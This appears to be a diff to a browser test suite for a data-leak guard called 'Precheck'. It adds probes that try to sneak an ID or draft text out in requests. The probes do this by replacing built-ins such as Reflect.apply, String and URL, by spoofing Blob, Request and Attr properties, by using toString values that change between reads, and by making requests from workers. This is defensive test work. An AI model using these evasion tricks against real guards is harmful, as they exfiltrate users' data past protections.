@@ -55,6 +55,15 @@ async function run(code: string): Promise<string> {
     const RAW = ${JSON.stringify(raw.url)};
     const UDP_PORT = ${raw.udpPort};
     const flip = (clean, other) => { let n = 0; return { toString: () => (n++ ? other : clean) }; };
+    // the same names inside a worker the page starts: its outcome comes back as the promise's value
+    const inWorker = (code) => new Promise((resolve) => {
+      const src = 'const ID = ' + JSON.stringify(ID) + '; const draft = ' + JSON.stringify(draft) + '; const RAW = ' + JSON.stringify(RAW) + ';'
+        + 'const sink = (n) => ' + JSON.stringify(location.origin + '/sink/ro/') + ' + n;'
+        + '(async () => { ' + code + ' })().then(() => postMessage("ok"), (e) => postMessage("threw: " + ((e && e.message) || e)));';
+      const w = new Worker(URL.createObjectURL(new Blob([src], { type: 'text/javascript' })));
+      w.onmessage = (e) => resolve(e.data);
+      w.onerror = (e) => resolve('error: ' + e.message);
+    });
     try { return 'ok: ' + String(await (async () => { ${code} })()); } catch (e) { return 'threw: ' + String((e && e.message) || e); }
   })()`);
 }
@@ -71,6 +80,42 @@ async function onGuardedPage(): Promise<void> {
   await writeDraft(page, ownDraft(81, true));
 }
 
+/** `code` run on the guarded page: what carrying the ID arrived, how many requests arrived at all, and what the page saw. */
+async function onGuarded(code: string): Promise<{ carried: string[]; arrived: number; outcome: string }> {
+  await onGuardedPage();
+  const [since, t0] = [server.mark(), Date.now()];
+  const outcome = await run(code);
+  await settle();
+  return { carried: carrying(server, since, t0), arrived: server.requests({ since }).filter((r) => r.path.startsWith('/sink/ro/')).length + raw.count(t0), outcome };
+}
+
+/** `code` run on the control host, where Precheck does not run: what carrying the ID arrived, and what the page saw. */
+async function onControl(code: string, draft: number): Promise<{ carried: string[]; outcome: string }> {
+  await page.goto(`${control.url}/routes/index.html`);
+  await page.waitForFunction('window.__routes && window.__routes.ready === true');
+  await page.evaluate(`window.__routes.setContent(${JSON.stringify(ownDraft(draft, true))})`);
+  const [since, t0] = [control.mark(), Date.now()];
+  const outcome = await run(code);
+  await settle();
+  return { carried: carrying(control, since, t0), outcome };
+}
+
+/** A request that is judged but clean must still arrive, and nothing carrying the ID. */
+async function expectCleanArrives(code: string): Promise<void> {
+  const guarded = await onGuarded(code);
+  expect(guarded.carried, guarded.outcome).toEqual([]);
+  expect(guarded.arrived, guarded.outcome).toBeGreaterThan(0);
+}
+
+/** Delivered without Precheck (the test can fail), nothing carrying the ID with it; the page's outcome is returned. */
+async function expectDeliveredOnlyWithout(code: string, draft: number): Promise<string> {
+  const without = await onControl(code, draft);
+  expect(without.carried.length, `control: ${without.outcome}`).toBeGreaterThan(0);
+  const guarded = await onGuarded(code);
+  expect(guarded.carried, guarded.outcome).toEqual([]);
+  return guarded.outcome;
+}
+
 const READ_ONCE: [label: string, code: string][] = [
   ["fetch: the init's body changed after the call", `const init = { method: 'POST', body: 'hello' }; const p = fetch(sink('init-body'), init); init.body = draft; await p;`],
   ['fetch: a body getter that answers the browser otherwise', `let n = 0; await fetch(sink('body-getter'), { method: 'POST', get body() { return n++ ? draft : 'hello'; } });`],
@@ -83,18 +128,14 @@ const READ_ONCE: [label: string, code: string][] = [
   ['XHR: a URL and a header whose toString answers twice (raw)', `const x = new XMLHttpRequest(); x.open('GET', flip(RAW + '/xhr?q=1', RAW + '/xhr?c=' + ID)); x.setRequestHeader('x-a', flip('hello', ID)); const done = new Promise((r) => x.onloadend = r); x.send(); await done;`],
   ['sendBeacon: a URL whose toString answers twice', `navigator.sendBeacon(flip(sink('beacon') + '?q=1', sink('beacon') + '?c=' + ID), 'hello');`],
   ["an img's src and setAttribute with a toString that answers twice", `new Image().src = flip(sink('img') + '?q=1', sink('img') + '?c=' + ID); const i = document.createElement('img'); i.setAttribute('src', flip(sink('img2') + '?q=1', sink('img2') + '?c=' + ID)); document.body.append(i);`],
+  ['Cache.add of a Request: the Request itself is fetched, not its string', `const cache = await caches.open('ro'); await cache.add(new Request(sink('cache-ok') + '?q=1'));`],
+  ["a worker's fetch: a body getter that answers the browser otherwise", `return inWorker("let n = 0; await fetch(sink('w-body'), { method: 'POST', get body() { return n++ ? draft : 'hello'; } });");`],
+  ["a worker's XHR: bytes changed after send", `return inWorker("const b = new TextEncoder().encode('hello '.repeat(8)); const x = new XMLHttpRequest(); x.open('POST', sink('w-xhr')); const done = new Promise((r) => (x.onloadend = r)); x.send(b); b.set(new TextEncoder().encode(ID)); await done;");`],
   ["an element's style with a toString that answers twice", `const d = document.createElement('div'); document.body.append(d); d.style.cssText = flip('color:red;background-image:url(' + sink('css') + '?q=1)', 'background-image:url(' + sink('css') + '?c=' + ID + ')');`],
 ];
 
 describe('read once: the browser sends the copy that was judged', () => {
-  test.each(READ_ONCE)('%s: the clean version arrives, nothing carrying the ID', async (_label, code) => {
-    await onGuardedPage();
-    const [since, t0] = [server.mark(), Date.now()];
-    const outcome = await run(code);
-    await settle();
-    expect(carrying(server, since, t0), outcome).toEqual([]);
-    expect(server.requests({ since }).filter((r) => r.path.startsWith('/sink/ro/')).length + raw.count(t0), outcome).toBeGreaterThan(0);
-  });
+  test.each(READ_ONCE)('%s: the clean version arrives, nothing carrying the ID', async (_label, code) => expectCleanArrives(code));
 });
 
 const NOT_READ: [label: string, code: string][] = [
@@ -120,19 +161,68 @@ const NOT_READ: [label: string, code: string][] = [
 
 describe('not read before: delivered without Precheck, refused with it', () => {
   test.each(NOT_READ)('%s', async (_label, code) => {
-    await page.goto(`${control.url}/routes/index.html`);
-    await page.waitForFunction('window.__routes && window.__routes.ready === true');
-    await page.evaluate(`window.__routes.setContent(${JSON.stringify(ownDraft(82, true))})`);
-    let [since, t0] = [control.mark(), Date.now()];
-    const delivered = await run(code);
-    await settle();
-    expect(carrying(control, since, t0).length, `control: ${delivered}`).toBeGreaterThan(0);
-
-    await onGuardedPage();
-    [since, t0] = [server.mark(), Date.now()];
-    const outcome = await run(code);
-    await settle();
-    expect(carrying(server, since, t0), outcome).toEqual([]);
-    expect(outcome).toMatch(/预检/);
+    expect(await expectDeliveredOnlyWithout(code, 82)).toMatch(/预检/);
   });
+});
+
+/**
+ * The ninth probe (2026-12-05): page code that, after load, replaces a built-in the guard used at
+ * call time (Reflect.apply, Function.prototype.call, String, URL, a prototype's getter or method) or
+ * gives one object a getter, tag or method of its own. The guard asked through them and was told one
+ * thing while the browser, reading the object's internal slots, sent another: with the build before
+ * lib/intercept/main/natives.ts all but one of these delivered the ID (checked by building
+ * e956685). The exception, Cache.add of a Request with its own url, did not leak: that build made
+ * every Request handed to Cache.add the string "[object Request]", which broke the call instead (the
+ * read-once row above shows a Request fetched as itself now). A worker's prelude had been left out
+ * of the eighth probe's fix (the worker rows here and above). Each page script restores what it
+ * replaced (the next case loads the page afresh anyway).
+ *
+ * The first three are aimed at the hooks themselves: without Precheck the page's own call sends the
+ * clean version, which must arrive with Precheck too.
+ */
+const AT_THE_HOOKS: [label: string, code: string][] = [
+  [
+    'Reflect.apply replaced: the original handed other arguments than were judged',
+    `const ra = Reflect.apply; Reflect.apply = function (f, t, a) { if (a && a[0] === 'src') a = ['src', sink('ra') + '?c=' + ID]; return ra(f, t, a); };
+     try { const i = document.createElement('img'); i.setAttribute('src', sink('ra') + '?q=1'); document.body.append(i); } finally { Reflect.apply = ra; }`,
+  ],
+  [
+    'Function.prototype.call replaced: a setter handed another value',
+    `const c = Function.prototype.call; const ap = Function.prototype.apply;
+     Function.prototype.call = function (t, ...a) { if (typeof a[0] === 'string' && a[0].startsWith(sink('fc'))) a[0] = sink('fc') + '?c=' + ID; return ap.apply(this, [t, a]); };
+     try { new Image().src = sink('fc') + '?q=1'; } finally { Function.prototype.call = c; }`,
+  ],
+  ["an object tagged 'TrustedScriptURL' whose string answers twice", `const i = document.createElement('img'); i.setAttribute('src', { [Symbol.toStringTag]: 'TrustedScriptURL', ...flip(sink('tag-trusted') + '?q=1', sink('tag-trusted') + '?c=' + ID) }); document.body.append(i);`],
+];
+
+/** Without Precheck these deliver the ID (the control host). The first two: headers a worker sets were not read (a refused XHR fails like a dropped connection, silently). */
+const BUILT_INS: [label: string, code: string][] = [
+  ["a worker's fetch header (raw)", `return inWorker("await fetch(RAW + '/w-fetch-header', { headers: { 'x-a': ID } });");`],
+  ["a worker's XHR header (raw)", `return inWorker("const x = new XMLHttpRequest(); x.open('GET', RAW + '/w-xhr-header'); x.setRequestHeader('x-a', ID); const done = new Promise((r) => (x.onloadend = r)); x.send(); await done;");`],
+  ["Blob.prototype's size made to say 0", `const d = Object.getOwnPropertyDescriptor(Blob.prototype, 'size'); Object.defineProperty(Blob.prototype, 'size', { get: () => 0, configurable: true }); try { await fetch(sink('size'), { method: 'POST', body: new Blob([draft]) }); } finally { Object.defineProperty(Blob.prototype, 'size', d); }`],
+  ["one Blob's own size of 0", `const b = new Blob([draft]); Object.defineProperty(b, 'size', { value: 0 }); await fetch(sink('own-size'), { method: 'POST', body: b });`],
+  ["an object tagged 'Blob' of size 0 whose string is the draft", `await fetch(sink('tag-blob'), { method: 'POST', body: { [Symbol.toStringTag]: 'Blob', size: 0, toString: () => draft } });`],
+  ["a Request with its own url and clone", `const r = new Request(sink('req') + '?c=' + encodeURIComponent(draft)); Object.defineProperty(r, 'url', { value: sink('req') + '?q=1' }); Object.defineProperty(r, 'clone', { value: () => r }); await fetch(r);`],
+  ["Cache.add of a Request with its own url", `const r = new Request(sink('cache') + '?c=' + ID); Object.defineProperty(r, 'url', { value: sink('cache') + '?q=1' }); const cache = await caches.open('probe'); await cache.add(r);`],
+  ["setAttributeNode of an Attr with its own value", `const a = document.createAttribute('src'); a.value = sink('attr') + '?c=' + ID; Object.defineProperty(a, 'value', { get: () => sink('attr') + '?q=1' }); const i = document.createElement('img'); i.setAttributeNode(a); document.body.append(i);`],
+  ["an img whose own tagName says DIV", `const i = document.createElement('img'); Object.defineProperty(i, 'tagName', { value: 'DIV' }); i.setAttribute('src', sink('tagname') + '?c=' + ID); document.body.append(i);`],
+  [
+    'String replaced: an XHR URL judged as another',
+    `const S = String; window.String = function (v) { return typeof v === 'string' && v.includes('/sink/ro/str') ? sink('str') + '?q=1' : S(v); };
+     try { const x = new XMLHttpRequest(); x.open('GET', sink('str') + '?c=' + ID); const done = new Promise((r) => (x.onloadend = r)); x.send(); await done; } finally { window.String = S; }`,
+  ],
+  [
+    'URL replaced: a fetch URL judged as another',
+    `const U = URL; window.URL = class extends U { get href() { return super.href.replace(/[?]c=.*/, '?q=1'); } };
+     try { await fetch(sink('url-class') + '?c=' + ID); } finally { window.URL = U; }`,
+  ],
+  [
+    "Headers.prototype's forEach emptied (raw)",
+    `const fe = Headers.prototype.forEach; Headers.prototype.forEach = function () {}; try { await fetch(RAW + '/hdr-foreach', { headers: { 'x-a': ID } }); } finally { Headers.prototype.forEach = fe; }`,
+  ],
+];
+
+describe("the page's built-ins replaced after load", () => {
+  test.each(AT_THE_HOOKS)('%s: the clean version arrives, nothing carrying the ID', async (_label, code) => expectCleanArrives(code));
+  test.each(BUILT_INS)('%s: delivered without Precheck, never with it', async (_label, code) => void (await expectDeliveredOnlyWithout(code, 83)));
 });
